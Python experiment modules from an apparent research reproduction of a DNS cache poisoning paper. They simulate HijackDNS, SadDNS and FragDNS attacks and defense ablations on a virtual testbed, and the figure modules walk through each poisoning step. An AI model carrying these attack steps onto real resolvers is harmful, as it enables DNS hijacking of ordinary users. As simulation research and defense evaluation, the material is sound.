    matches = 0
    impacts: dict[str, str] = {}
    for app_class in ALL_APPLICATIONS:
        key = application_key(app_class)
        overrides = INFRASTRUCTURE_OVERRIDES.get(key, {})
        instance = app_class.__new__(app_class)  # row metadata only
        profile = instance.target_profile(**overrides)
        driver = driver_for(app_class)
        scenario = scenario_from_profile(
            profile, method="HijackDNS", planner=planner,
            app_spec=AppSpec(app=driver.name),
            trigger=TriggerSpec(kind="app"),
            label=f"impact/{key}",
        )
        chain = scenario.run(seed=f"{seed}/impact/{key}")
        stage = chain.app_result
        measured = stage.impact if stage.realized else "(not realized)"
        impacts[key] = measured
        row_meta = app_class.row
        match = chain.success and stage.realized \
            and stage.impact == row_meta.impact
        matches += 1 if match else 0
        rows.append([
            row_meta.category, row_meta.protocol, row_meta.use_case,
            chain.method, "ok" if chain.success else "FAILED",
            measured, row_meta.impact, "yes" if match else "NO",
        ])
    result = ExperimentResult(
        experiment_id="impact",
        title="Table 1 (dynamic): application impact via executed "
              "kill chains",
        headers=headers,
        rows=rows,
        paper_reference={
            "impact_cells": {application_key(cls): cls.row.impact
                             for cls in ALL_APPLICATIONS},
        },
        data={"matches": matches, "total": len(ALL_APPLICATIONS),
              "measured": impacts},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"kill-chain runs reproducing the static Table 1 impact cell: "
        f"{matches}/{len(ALL_APPLICATIONS)}"
    )
    return result
