"""Section 6 ablation on the defense-stack API: singles and pairs.

The paper recommends countermeasures without a quantitative table; this
experiment turns the recommendations into two executable grids:

* **singles** — every (attack x single-defense) cell, the classic 8x3
  grid, with RPKI-ROV now going through real origin validation;
* **pairs** — every (attack x two-defense-stack) cell, demonstrating
  which combinations are *redundant* (one member already covers the
  pair's defeat set) and which are *complementary* (the pair blocks
  strictly more of the chain than either member alone — the paper's
  Section 6 argument that defenses must be evaluated against the whole
  cross-layer chain, not per layer).

Every cell's outcome is compared against the stack's combined Section 6
expectation; ``data["agreement"]``/``data["total"]`` count the matches
across both grids.
"""

from __future__ import annotations

from repro.defenses.ablation import (
    ATTACK_NAMES,
    AblationCell,
    classify_pair,
    evaluate_defense_matrix,
)
from repro.defenses.base import DefenseStack
from repro.defenses.catalog import ALL_DEFENSES, pairwise_stacks, \
    single_stacks
from repro.experiments.base import ExperimentResult
from repro.measurements.report import render_table

#: Pairs shown first (and used by the quick benches): two redundant
#: same-attack pairs and two complementary cross-attack pairs.
SHOWCASE_PAIRS = (
    "block-fragments+pmtu-clamp",        # redundant: both defeat FragDNS
    "dnssec+rpki-rov",                   # redundant: DNSSEC covers ROV
    "no-icmp-errors+randomize-records",  # complementary: SadDNS + FragDNS
    "block-fragments+randomized-icmp-limit",  # complementary
)


def pair_grid(count: int | None = None) -> list[DefenseStack]:
    """The pairwise stacks, showcase pairs first, deterministic order.

    ``count`` truncates the grid (the quick benches run the showcase
    subset); ``None`` means all 28 two-defense combinations.
    """
    showcase = [DefenseStack.parse(key) for key in SHOWCASE_PAIRS]
    seen = {stack.key for stack in showcase}
    ordered = showcase + [stack for stack in pairwise_stacks()
                          if stack.key not in seen]
    return ordered if count is None else ordered[:count]


def _grid_rows(cells: list[AblationCell]) -> tuple[list[list[str]], int]:
    """Per-stack verdict rows plus the expectation-agreement count."""
    by_stack: dict[str, dict[str, str]] = {}
    agreement = 0
    for cell in cells:
        verdict = "blocked" if not cell.attack_succeeded else "succeeds"
        marker = "" if cell.matches_expectation else " (!)"
        by_stack.setdefault(cell.defense, {})[cell.attack] = \
            verdict + marker
        if cell.matches_expectation:
            agreement += 1
    rows = [
        [key, cells_map.get("HijackDNS", "-"), cells_map.get("SadDNS", "-"),
         cells_map.get("FragDNS", "-")]
        for key, cells_map in by_stack.items()
    ]
    return rows, agreement


def run(seed: int = 0, saddns_iterations: int = 260,
        frag_attempts: int = 120, pairs: int | None = None,
        workers: int | str | None = None,
        executor: str = "process", store=None) -> ExperimentResult:
    """Run the single-defense grid plus ``pairs`` pairwise stacks.

    ``pairs=None`` runs all 28 two-defense combinations; ``pairs=0``
    skips the pairwise grid; a positive count runs that many stacks
    from :func:`pair_grid` (showcase pairs first).  Both grids execute
    on one campaign pool, so ``workers``/``executor`` parallelise them
    like any other sweep.

    The SadDNS budget covers the geometric tail of its port search
    with margin: at 150 ports scanned per iteration over the 4,096-port
    ablation window, 260 iterations leave a per-cell miss probability
    below 1e-4, so every "succeeds" verdict in both grids is stable.
    """
    singles = single_stacks()
    chosen_pairs = pair_grid(pairs) if pairs is None or pairs > 0 else []
    cells = evaluate_defense_matrix(
        singles + chosen_pairs,
        seed=f"ablation-{seed}",
        saddns_iterations=saddns_iterations,
        frag_attempts=frag_attempts,
        workers=workers,
        executor=executor,
        store=store,
    )
    single_keys = {stack.key for stack in singles}
    single_cells = [c for c in cells if c.defense in single_keys]
    pair_cells = [c for c in cells if c.defense not in single_keys]
    headers = ["Defense", "HijackDNS", "SadDNS", "FragDNS"]
    rows, agreement = _grid_rows(single_cells)
    rendered = render_table(
        headers, rows,
        title="Section 6 ablation: single defense vs methodology")
    pair_classes: dict[str, str] = {}
    if pair_cells:
        pair_rows, pair_agreement = _grid_rows(pair_cells)
        agreement += pair_agreement
        # Empirical classification: a pair is complementary when the
        # grid shows it blocking strictly more methodologies than
        # either member's single-defense row did.
        blocked: dict[str, set[str]] = {}
        for cell in cells:
            if not cell.attack_succeeded:
                blocked.setdefault(cell.defense, set()).add(cell.attack)
        for row in pair_rows:
            stack = DefenseStack.parse(row[0])
            declared = classify_pair(stack)
            pair_blocked = blocked.get(stack.key, set())
            member_blocked = [blocked.get(d.key, set())
                              for d in stack.defenses]
            measured = "complementary" if all(
                pair_blocked > single for single in member_blocked
            ) else "redundant"
            pair_classes[stack.key] = declared
            marker = "" if measured == declared else " (!)"
            row.append(declared + marker)
        rendered += "\n\n" + render_table(
            headers + ["Pair class"], pair_rows,
            title="Section 6 ablation: pairwise defense stacks")
    result = ExperimentResult(
        experiment_id="ablation",
        title="Section 6 ablation: defense stacks vs methodology",
        headers=headers,
        rows=rows,
        paper_reference={
            defense.key: defense.defeats for defense in ALL_DEFENSES
        },
        data={"cells": single_cells, "pair_cells": pair_cells,
              "agreement": agreement,
              "total": len(cells),
              "pair_classes": pair_classes},
    )
    result.rendered = rendered
    result.notes.append(
        f"cells agreeing with the Section 6 expectations: "
        f"{agreement}/{len(cells)} ('(!)' marks disagreements)"
    )
    if pair_cells:
        complementary = sum(1 for kind in pair_classes.values()
                            if kind == "complementary")
        result.notes.append(
            f"pairwise stacks: {len(pair_classes)} evaluated, "
            f"{complementary} complementary / "
            f"{len(pair_classes) - complementary} redundant (declared "
            "vs measured classifications agree unless marked '(!)')"
        )
    return result
