"""Section 6 ablation: each countermeasure against each methodology."""

from __future__ import annotations

from repro.countermeasures import ALL_MITIGATIONS
from repro.countermeasures.evaluation import evaluate_mitigation_matrix
from repro.experiments.base import ExperimentResult
from repro.measurements.report import render_table


def run(seed: int = 0, saddns_iterations: int = 200,
        frag_attempts: int = 120) -> ExperimentResult:
    """Run the full (attack x mitigation) grid."""
    cells = evaluate_mitigation_matrix(
        seed=f"ablation-{seed}",
        saddns_iterations=saddns_iterations,
        frag_attempts=frag_attempts,
    )
    headers = ["Mitigation", "HijackDNS", "SadDNS", "FragDNS"]
    by_mitigation: dict[str, dict[str, str]] = {}
    agreement = 0
    for cell in cells:
        verdict = "blocked" if not cell.attack_succeeded else "succeeds"
        marker = "" if cell.matches_expectation else " (!)"
        by_mitigation.setdefault(cell.mitigation, {})[cell.attack] = \
            verdict + marker
        if cell.matches_expectation:
            agreement += 1
    rows = [
        [key, cells_map.get("HijackDNS", "-"), cells_map.get("SadDNS", "-"),
         cells_map.get("FragDNS", "-")]
        for key, cells_map in by_mitigation.items()
    ]
    result = ExperimentResult(
        experiment_id="ablation",
        title="Section 6 ablation: countermeasure vs methodology",
        headers=headers,
        rows=rows,
        paper_reference={
            mitigation.key: mitigation.defeats
            for mitigation in ALL_MITIGATIONS
        },
        data={"cells": cells, "agreement": agreement,
              "total": len(cells)},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"cells agreeing with the Section 6 expectations: "
        f"{agreement}/{len(cells)} ('(!)' marks disagreements)"
    )
    return result
