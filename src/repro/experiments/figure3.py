"""Figure 3: announced prefix lengths of resolvers and nameservers."""

from __future__ import annotations

from repro.experiments.base import ExperimentResult
from repro.measurements.population import (
    DOMAIN_DATASETS,
    PopulationGenerator,
    RESOLVER_DATASETS,
)
from repro.measurements.report import histogram, render_table
from repro.measurements.scanner import harvest_prefix_lengths

POPULATIONS = [
    ("Resolvers: Open resolver", "open"),
    ("Resolvers: Adnet", "ad-net"),
    ("Nameservers: Alexa", "alexa"),
]


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Histogram announced prefix lengths for the three populations."""
    generator = PopulationGenerator(seed=seed, scale=scale)
    spec_by_key = {spec.key: spec for spec in RESOLVER_DATASETS}
    domain_spec = next(spec for spec in DOMAIN_DATASETS
                       if spec.key == "alexa")
    series: dict[str, dict[int, float]] = {}
    for label, key in POPULATIONS:
        if key == "alexa":
            population = generator.domain_population(domain_spec)
        else:
            population = generator.resolver_population(spec_by_key[key])
        lengths = harvest_prefix_lengths(population)
        series[label] = histogram(lengths)
    headers = ["Prefix length"] + [label for label, _key in POPULATIONS]
    rows = []
    for length in range(11, 25):
        rows.append([f"/{length}"] + [
            f"{series[label].get(length, 0.0) * 100:.1f}%"
            for label, _key in POPULATIONS
        ])
    slash24 = {label: series[label].get(24, 0.0) for label, _ in POPULATIONS}
    result = ExperimentResult(
        experiment_id="figure3",
        title="Figure 3: announced prefixes (fraction per prefix length)",
        headers=headers,
        rows=rows,
        paper_reference={
            # /24 mass implied by the paper's hijackability results: 74%
            # of open resolvers and 70% of ad-net resolvers sit in
            # announcements shorter than /24.  For Alexa the 53% figure
            # is per *domain* (any of ~2 nameservers), which derates to
            # a ~31% per-nameserver rate, i.e. a /24 mass near 0.69.
            "slash24_mass": {"Resolvers: Open resolver": 0.26,
                             "Resolvers: Adnet": 0.30,
                             "Nameservers: Alexa": 0.69},
        },
        data={"series": series, "slash24": slash24},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        "the /24 bar is the non-hijackable mass; everything left of it "
        "is sub-prefix hijackable"
    )
    return result
