"""Figure 1: the SadDNS message sequence, regenerated from a live run.

The experiment scripts one (deterministically successful) attack
iteration on a testbed whose resolver uses a narrowed ephemeral range,
logging each protocol step of the paper's Figure 1:

1. query flood mutes the nameserver;
2. the triggered query opens the resolver's ephemeral port;
3-6. spoofed probe batches + verification probes walk the ICMP side
   channel down to the open port;
7. 2^16 spoofed responses race the TXID;
8. the poisoned record is served to the victim service.
"""

from __future__ import annotations

from repro.attacks import SadDnsConfig, cache_poisoned
from repro.core.eventlog import EventLog
from repro.experiments.base import ExperimentResult
from repro.netsim.host import HostConfig
from repro.scenario import AttackScenario
from repro.testbed import TARGET_DOMAIN

ACTORS = ["attacker", "resolver", "nameserver", "service"]


def run(seed: int = 0) -> ExperimentResult:
    """One instrumented SadDNS run, rendered as a sequence chart."""
    scenario = AttackScenario(
        method="SadDNS",
        resolver_host_config=HostConfig(ephemeral_low=40000,
                                        ephemeral_high=40049),
        attack_config=SadDnsConfig(),
    )
    built = scenario.build(seed=f"figure1-{seed}")
    bed = built.testbed
    resolver = built.resolver
    attacker = built.attacker
    trigger = built.trigger
    attack = built.attack
    log = EventLog()

    def note(actor: str, kind: str, detail: str, **data) -> None:
        log.record(bed.now, actor, kind, detail, **data)

    note("attacker", "mute",
         "4000 queries to mute NS via query flood, src=30.0.0.1",
         src_actor="attacker", dst_actor="nameserver")
    attack.mute_nameserver()
    note("attacker", "trigger", "Trigger query to vict.im (via service)",
         src_actor="attacker", dst_actor="resolver")
    trigger.fire(TARGET_DOMAIN, "A")
    bed.run(0.08)
    open_ports = sorted(resolver.host.open_ports() - {53})
    note("resolver", "query", f"vict.im A? from port {open_ports[0]}",
         src_actor="resolver", dst_actor="nameserver", port=open_ports[0])
    note("nameserver", "muted", "rate-limited, no response to 30.0.0.1",
         src_actor="nameserver", dst_actor="resolver")
    batch = list(range(40000, 40050))
    hit = attack.probe_ports(batch)
    note("attacker", "probe", "50 probes to 50 ports, src=123.0.0.53:53 "
         f"+ 1 verification probe -> ICMP {'received' if hit else 'absent'}",
         src_actor="attacker", dst_actor="resolver", hit=hit)
    port = attack.isolate_port(batch) if hit else None
    note("attacker", "isolate",
         f"divide & conquer isolates open port {port}",
         src_actor="attacker", dst_actor="resolver", port=port)
    flooded = attack.flood_txids(port, TARGET_DOMAIN) if port else False
    note("attacker", "flood",
         "2^16 responses, all TXIDs: vict.im A 6.6.6.6",
         src_actor="attacker", dst_actor="resolver", success=flooded)
    poisoned = cache_poisoned(resolver, TARGET_DOMAIN, attacker.address)
    note("resolver", "poisoned",
         f"cache now maps vict.im -> {attacker.address}",
         src_actor="resolver", dst_actor="service", poisoned=poisoned)
    steps = [[event.kind, event.detail] for event in log]
    result = ExperimentResult(
        experiment_id="figure1",
        title="Figure 1: DNS poisoning with side-channel (SadDNS)",
        headers=["step", "detail"],
        rows=steps,
        paper_reference={"steps": [
            "mute", "trigger", "query", "muted", "probe", "isolate",
            "flood", "poisoned",
        ]},
        data={"poisoned": poisoned, "port": port,
              "open_ports": open_ports},
    )
    result.rendered = log.render_sequence(ACTORS)
    result.notes.append(
        f"attack outcome: port={port}, poisoned={poisoned}"
    )
    return result
