"""Table 6: comparison of the cache poisoning methods.

The quantitative rows (hitrate, queries needed, total packets) come from
end-to-end attack trials; the applicability rows come from the Table 3/4
surveys (ad-net resolvers, Alexa-1M domains); stealth is qualitative.
"""

from __future__ import annotations

from repro.experiments import table3, table4
from repro.experiments.base import ExperimentResult
from repro.measurements.comparative import Table6Data, collect_table6
from repro.measurements.report import render_table

PAPER_REFERENCE = {
    "hitrate": {"hijack": 1.0, "saddns": 0.002, "frag_random": 0.001,
                "frag_global": 0.20},
    "queries": {"hijack": 1, "saddns": 497, "frag_random": 1024,
                "frag_global": 5},
    "packets": {"hijack": 2, "saddns": 987_000, "frag_random": 65_000,
                "frag_global": 325},
    "vuln_resolvers": {"hijack": 70.0, "saddns": 11.0, "frag": 91.0},
    "vuln_domains": {"hijack": 53.0, "saddns": 12.0, "frag_any": 4.0,
                     "frag_global": 1.0},
}


def run(seed: int = 0, saddns_runs: int = 2, frag_runs: int = 6,
        frag_random_runs: int = 2, scale: float = 0.01,
        data: Table6Data | None = None,
        workers: int | None = None) -> ExperimentResult:
    """Assemble the full Table 6 from live trials and survey numbers.

    ``workers`` > 1 fans the attack trials out over a process pool via
    the campaign runner; the statistics are identical either way.
    """
    if data is None:
        data = collect_table6(seed=seed, saddns_runs=saddns_runs,
                              frag_runs=frag_runs,
                              frag_random_runs=frag_random_runs,
                              workers=workers)
    survey3 = table3.run(seed=seed, scale=scale)
    survey4 = table4.run(seed=seed, scale=scale)
    adnet = survey3.data["summaries"]["ad-net"]
    alexa = survey4.data["summaries"]["alexa"]
    data.vuln_resolvers = {
        "hijack": adnet.pct("hijack"),
        "saddns": adnet.pct("saddns"),
        "frag": adnet.pct("frag"),
    }
    data.vuln_domains = {
        "hijack": alexa.pct("hijack"),
        "saddns": alexa.pct("saddns"),
        "frag_any": alexa.pct("frag_any"),
        "frag_global": alexa.pct("frag_global"),
    }
    headers = ["Metric", "BGP hijack", "SadDNS", "Frag (any IPID)",
               "Frag (global IPID)"]
    rows = [
        ["Vuln. resolvers",
         f"{data.vuln_resolvers['hijack']:.0f}%",
         f"{data.vuln_resolvers['saddns']:.0f}%",
         f"{data.vuln_resolvers['frag']:.0f}%",
         f"{data.vuln_resolvers['frag']:.0f}%"],
        ["Vuln. domains",
         f"{data.vuln_domains['hijack']:.0f}%",
         f"{data.vuln_domains['saddns']:.0f}%",
         f"{data.vuln_domains['frag_any']:.0f}%",
         f"{data.vuln_domains['frag_global']:.0f}%"],
        ["Hitrate",
         f"{data.hijack.hitrate * 100:.0f}%",
         f"{data.saddns.hitrate * 100:.2f}%",
         f"{data.frag_random.hitrate * 100:.2f}%",
         f"{data.frag_global.hitrate * 100:.0f}%"],
        ["Queries needed",
         f"{data.hijack.mean_queries:.0f}",
         f"{data.saddns.mean_queries:.0f}",
         f"{data.frag_random.mean_queries:.0f}",
         f"{data.frag_global.mean_queries:.0f}"],
        ["Total traffic (pkts)",
         f"{data.hijack.mean_packets:.0f}",
         f"{data.saddns.mean_packets:,.0f}",
         f"{data.frag_random.mean_packets:,.0f}",
         f"{data.frag_global.mean_packets:.0f}"],
        ["Attack duration (s)",
         f"{data.hijack.mean_duration:.1f}",
         f"{data.saddns.mean_duration:.0f}",
         f"{data.frag_random.mean_duration:.0f}",
         f"{data.frag_global.mean_duration:.1f}"],
        ["Stealthiness",
         "very visible (control plane)",
         "stealthy, locally detectable",
         "stealthy, locally detectable",
         "very stealthy"],
    ]
    result = ExperimentResult(
        experiment_id="table6",
        title="Table 6: comparison of the cache poisoning methods",
        headers=headers,
        rows=rows,
        paper_reference=PAPER_REFERENCE,
        data={"stats": data},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        f"trials: hijack={data.hijack.runs}, saddns={data.saddns.runs},"
        f" frag-global={data.frag_global.runs},"
        f" frag-random={data.frag_random.runs}"
    )
    return result
