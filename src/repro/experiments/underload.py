"""Attacks under realistic benign load: success vs. offered qps.

The paper measures its methodologies against an idle resolver; this
experiment reruns the budget-capped Table 6 sweep while a synthetic
client population (Zipf-ranked domains, Poisson arrivals — see
:mod:`repro.workload`) queries the same resolver at increasing rates.
Two effects are on display:

* **the window of opportunity shrinks** — benign victim-name queries
  re-prime the cache, so the fraction of wall-clock the poisoning
  window is open falls as qps rises (measured by PASTA sampling);
* **benign clients feel the attack** — latency percentiles and, for
  successful runs, poisoned answers served to ordinary clients.

At qps=0 the workload engine is a strict no-op, so the 0-qps rows are
bit-identical to the idle-world sweep — the loaded rows read against
that baseline.
"""

from __future__ import annotations

from dataclasses import replace

from repro.experiments.base import ExperimentResult
from repro.measurements.report import render_table
from repro.scenario.campaign import Campaign
from repro.scenario.presets import sweep_scenarios
from repro.workload.population import WorkloadSpec

#: Offered load levels (queries/second across the client population).
QPS_LEVELS = (0.0, 5.0, 40.0)

#: The population every level shares; only ``qps`` varies.  The victim
#: TTL is pulled down to the run's timescale so cache churn actually
#: reopens the window during the measured phase.
BASE_WORKLOAD = WorkloadSpec(clients=4, qps=1.0, duration=8.0,
                             warmup=2.0, domains=10, victim_ttl=6,
                             label="underload")


def run(seeds=range(8), executor: str = "serial",
        workers: int | None = None, store=None) -> ExperimentResult:
    """Sweep (method x offered qps x seed) and tabulate the findings.

    ``store`` forwards to the campaign: stored (scenario, seed, stack)
    cells are loaded instead of re-run, so a killed sweep resumes.
    """
    cells = []
    for scenario in sweep_scenarios():
        for qps in QPS_LEVELS:
            workload = BASE_WORKLOAD.with_qps(qps) if qps > 0 else None
            cells.append(replace(
                scenario, workload=workload,
                label=f"{scenario.method}@{qps:g}qps"))
    campaign = Campaign(executor=executor, workers=workers)
    result = campaign.run(cells, seeds=seeds, store=store)

    headers = ["Method", "Offered qps", "Runs", "Attack success",
               "Window open", "Hit rate", "p50 ms", "p99 ms",
               "Poisoned answers"]
    rows = []
    data: dict[str, dict] = {"cells": {}}
    by_label = result.by_label()
    for scenario in sweep_scenarios():
        for qps in QPS_LEVELS:
            key = f"{scenario.method}@{qps:g}qps"
            summary = by_label[key]
            load = summary.load
            if load is None:
                window = hit = p50 = p99 = poisoned = "-"
            else:
                window = f"{load.window_fraction * 100:.0f}%"
                hit = f"{load.hit_rate * 100:.0f}%"
                p50 = f"{load.latency_percentile_ms(0.50):.1f}"
                p99 = f"{load.latency_percentile_ms(0.99):.1f}"
                poisoned = str(load.poisoned_answers)
            rows.append([scenario.method, f"{qps:g}", summary.runs,
                         f"{summary.success_rate * 100:.0f}%",
                         window, hit, p50, p99, poisoned])
            data["cells"][key] = {
                "success_rate": summary.success_rate,
                "window_fraction": (load.window_fraction
                                    if load else 1.0),
                "poisoned_answers": (load.poisoned_answers
                                     if load else 0),
                "load_checksum": load.checksum() if load else None,
            }

    # The load-bearing shape claims the benches assert: the idle
    # effectiveness ordering survives under load, and for every method
    # the window narrows monotonically as offered qps rises.
    orderings = []
    for qps in QPS_LEVELS:
        level = {m: data["cells"][f"{m}@{qps:g}qps"]["success_rate"]
                 for m in ("HijackDNS", "FragDNS", "SadDNS")}
        orderings.append(level["HijackDNS"] >= level["FragDNS"]
                         >= level["SadDNS"])
    windows_narrow = all(
        data["cells"][f"{m}@{QPS_LEVELS[1]:g}qps"]["window_fraction"]
        >= data["cells"][f"{m}@{QPS_LEVELS[2]:g}qps"]["window_fraction"]
        for m in ("HijackDNS", "FragDNS", "SadDNS"))
    data["ordering_holds"] = all(orderings)
    data["windows_narrow"] = windows_narrow

    experiment = ExperimentResult(
        experiment_id="underload",
        title="Attack effectiveness under benign load "
              "(budget-capped sweep)",
        headers=headers,
        rows=rows,
        paper_reference={
            "idle_effectiveness_order":
                ["HijackDNS", "FragDNS", "SadDNS"],
        },
        data=data,
    )
    experiment.rendered = render_table(headers, rows,
                                       title=experiment.title)
    experiment.notes.append(
        f"effectiveness ordering HijackDNS >= FragDNS >= SadDNS holds "
        f"at every load level: {data['ordering_holds']}")
    experiment.notes.append(
        f"window of opportunity narrows as qps rises (5 -> 40 qps, "
        f"all methods): {windows_narrow}")
    experiment.notes.append(
        "0-qps rows are bit-identical to the idle-world sweep (the "
        "workload engine is a strict no-op at qps=0)")
    return experiment
