"""Figure 4: resolver EDNS sizes vs nameserver minimum fragment sizes."""

from __future__ import annotations

from repro.experiments.base import ExperimentResult
from repro.measurements.population import (
    PopulationGenerator,
    RESOLVER_DATASETS,
)
from repro.measurements.report import cdf_series, render_table
from repro.measurements.scanner import (
    harvest_edns_sizes,
    harvest_min_fragment_sizes,
)

CDF_POINTS = [68, 292, 548, 1500, 2048, 3072, 4096]


def run(seed: int = 0, scale: float = 0.01) -> ExperimentResult:
    """Compute both CDFs of the paper's Figure 4."""
    generator = PopulationGenerator(seed=seed, scale=scale)
    open_spec = next(spec for spec in RESOLVER_DATASETS
                     if spec.key == "open")
    front_ends = generator.resolver_population(open_spec)
    edns_sizes = harvest_edns_sizes(front_ends)
    alexa_ns = generator.alexa_nameserver_population(
        count=max(500, int(4000 * scale * 25))
    )
    frag_sizes = harvest_min_fragment_sizes(alexa_ns)
    edns_cdf = cdf_series(edns_sizes, CDF_POINTS)
    frag_cdf = cdf_series(frag_sizes, CDF_POINTS)
    headers = ["size (bytes)", "EDNS size of resolvers (CDF)",
               "min fragment size of nameservers (CDF)"]
    rows = []
    for index, point in enumerate(CDF_POINTS):
        rows.append([
            str(point),
            f"{edns_cdf[index][1] * 100:.1f}%",
            f"{frag_cdf[index][1] * 100:.1f}%",
        ])
    result = ExperimentResult(
        experiment_id="figure4",
        title="Figure 4: CDF of resolver EDNS UDP size vs minimum "
              "fragment size of nameservers",
        headers=headers,
        rows=rows,
        paper_reference={
            "edns": {"<=512": 0.40, "1232-2048": 0.10, ">=4000": 0.50},
            "min_frag": {"<=292": 0.0705, "<=548": 0.832 + 0.0705},
        },
        data={"edns_cdf": edns_cdf, "frag_cdf": frag_cdf,
              "edns_sizes": len(edns_sizes),
              "frag_sizes": len(frag_sizes)},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    result.notes.append(
        "the two-group EDNS split (40% at 512B vs 50%+ above 4000B) "
        "partitions resolvers into fragmentation-immune and exposed"
    )
    return result
