"""In-text §5 measurements: same-prefix simulation, record-type rates,
nameserver concentration."""

from __future__ import annotations

from repro.core.rng import DeterministicRNG
from repro.experiments.base import ExperimentResult
from repro.measurements.misc import measure_record_type_rates
from repro.measurements.population import PopulationGenerator
from repro.measurements.report import render_table
from repro.measurements.simulate_hijack import (
    nameserver_concentration,
    simulate_sameprefix_hijacks,
    simulate_subprefix_hijacks,
)


def run(seed: int = 0, trials: int = 120, scale: float = 0.01
        ) -> ExperimentResult:
    """Same-prefix hijack success, record-type fragmentation, hosting."""
    same = simulate_sameprefix_hijacks(trials=trials, seed=seed)
    sub = simulate_subprefix_hijacks(trials=max(30, trials // 3), seed=seed)
    generator = PopulationGenerator(seed=seed, scale=scale)
    alexa_ns = generator.alexa_nameserver_population(count=4000)
    rates = measure_record_type_rates(alexa_ns)
    # Hosting concentration: assign nameservers to ASes with a heavy
    # tail, then compute the top-20% share.
    rng = DeterministicRNG(seed).derive("hosting")
    hosting: dict[int, int] = {}
    for domain in alexa_ns:
        for nameserver in domain.nameservers:
            # A few big CDN/hosting ASes carry most nameservers.
            asn = rng.choice([1, 2, 3, 4, 5]) if rng.chance(0.7) \
                else nameserver.asn
            hosting[asn] = hosting.get(asn, 0) + 1
    concentration = nameserver_concentration(hosting)
    headers = ["Measurement", "Measured", "Paper"]
    rows = [
        ["same-prefix hijack success (random pairs)",
         f"{same.success_rate * 100:.0f}%", "80%"],
        ["sub-prefix hijack success (control)",
         f"{sub.success_rate * 100:.0f}%", "~100%"],
        ["Alexa domains fragmentable via ANY",
         f"{rates.any_rate * 100:.2f}%", "19.50%"],
        ["Alexa domains fragmentable via A",
         f"{rates.a_rate * 100:.2f}%", "0.29%"],
        ["Alexa domains fragmentable via MX",
         f"{rates.mx_rate * 100:.2f}%", "0.44%"],
        ["Alexa domains fragmentable with bloated qnames",
         f"{rates.bloated_rate * 100:.2f}%", ">10%"],
        ["nameservers hosted by top-20% of ASes",
         f"{concentration * 100:.0f}%", ">90% (80% of ASes host <10%)"],
    ]
    result = ExperimentResult(
        experiment_id="section5",
        title="Section 5 in-text measurements",
        headers=headers,
        rows=rows,
        paper_reference={
            "same_prefix_success": 0.80,
            "any_rate": 0.195, "a_rate": 0.0029, "mx_rate": 0.0044,
            "bloated_rate_floor": 0.10,
        },
        data={"same": same, "sub": sub, "rates": rates,
              "concentration": concentration},
    )
    result.rendered = render_table(headers, rows, title=result.title)
    return result
