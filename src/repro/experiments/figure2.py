"""Figure 2: the FragDNS message sequence, regenerated from a live run.

Steps of the paper's Figure 2:

1. spoofed ICMP PTB (MTU=68) shrinks the nameserver's path MTU;
2. the attacker plants its spoofed second fragment (FragAtk) in the
   resolver's defragmentation cache;
3. a query is triggered;
4. the nameserver's genuine response fragments;
5-6. the genuine first fragment reassembles with the planted fragment;
7-8. the forged record enters the cache and is served to the victim.
"""

from __future__ import annotations

from repro.attacks import FragDnsConfig, cache_poisoned
from repro.core.eventlog import EventLog
from repro.experiments.base import ExperimentResult
from repro.scenario import AttackScenario
from repro.testbed import FRAG_TARGET_NAME, RESOLVER_IP

ACTORS = ["attacker", "resolver", "nameserver", "service"]


def run(seed: int = 0) -> ExperimentResult:
    """One instrumented FragDNS run, rendered as a sequence chart."""
    scenario = AttackScenario(
        method="FragDNS",
        # Zero cross-traffic makes the single scripted attempt land.
        attack_config=FragDnsConfig(cross_traffic_advance=(0, 1)),
    )
    built = scenario.build(seed=f"figure2-{seed}")
    bed = built.testbed
    resolver = built.resolver
    attacker = built.attacker
    trigger = built.trigger
    attack = built.attack
    log = EventLog()

    def note(actor: str, kind: str, detail: str, **data) -> None:
        log.record(bed.now, actor, kind, detail, **data)

    note("attacker", "ptb", "ICMP PTB, MTU=68, spoofed src=30.0.0.1",
         src_actor="attacker", dst_actor="nameserver")
    attack.force_fragmentation()
    note("nameserver", "pmtu",
         f"path MTU to resolver now {attack.effective_mtu()} bytes",
         mtu=attack.effective_mtu())
    tail = attack.craft_second_fragment(FRAG_TARGET_NAME)
    boundary = attack.fragment_boundary()
    note("attacker", "craft",
         f"malicious 2nd fragment crafted ({len(tail)}B at offset "
         f"{boundary}), UDP checksum compensated via TTL",
         src_actor="attacker", dst_actor="resolver")
    idents = attack.predict_ipids()
    for ident in idents:
        attacker.spoof_fragment(
            src=attack.nameserver.address, dst=RESOLVER_IP, ident=ident,
            frag_offset_bytes=boundary, payload=tail,
        )
    note("attacker", "plant",
         f"FragAtk planted in defrag cache for {len(idents)} predicted "
         f"IP-IDs (sampled global counter)",
         src_actor="attacker", dst_actor="resolver",
         planted=len(idents))
    note("attacker", "trigger",
         f"Trigger query to {FRAG_TARGET_NAME} (via service)",
         src_actor="attacker", dst_actor="resolver")
    trigger.fire(FRAG_TARGET_NAME, "A")
    bed.run(0.5)
    note("nameserver", "respond",
         "response fragments: FragNS1 (chksum, txid, Q) + FragNS2",
         src_actor="nameserver", dst_actor="resolver")
    poisoned = cache_poisoned(resolver, FRAG_TARGET_NAME, attacker.address)
    note("resolver", "reassemble",
         "FragNS1 reassembled with FragAtk; checksum and TXID verify",
         reassembled=resolver.host.stats.reassembled)
    note("resolver", "poisoned",
         f"cache now maps {FRAG_TARGET_NAME} -> {attacker.address}",
         src_actor="resolver", dst_actor="service", poisoned=poisoned)
    steps = [[event.kind, event.detail] for event in log]
    result = ExperimentResult(
        experiment_id="figure2",
        title="Figure 2: fragmentation-based DNS poisoning (FragDNS)",
        headers=["step", "detail"],
        rows=steps,
        paper_reference={"steps": [
            "ptb", "pmtu", "craft", "plant", "trigger", "respond",
            "reassemble", "poisoned",
        ]},
        data={"poisoned": poisoned,
              "effective_mtu": attack.effective_mtu(),
              "fragment_boundary": boundary,
              "planted": len(idents)},
    )
    result.rendered = log.render_sequence(ACTORS)
    result.notes.append(f"attack outcome: poisoned={poisoned}")
    return result
