"""In-text §4.3 measurements: shared caches and forwarder coverage."""

from __future__ import annotations

from repro.experiments.base import ExperimentResult
from repro.measurements.misc import (
    assign_cached_apps,
    assign_forwarders,
    measure_forwarder_coverage,
    probe_shared_caches,
)
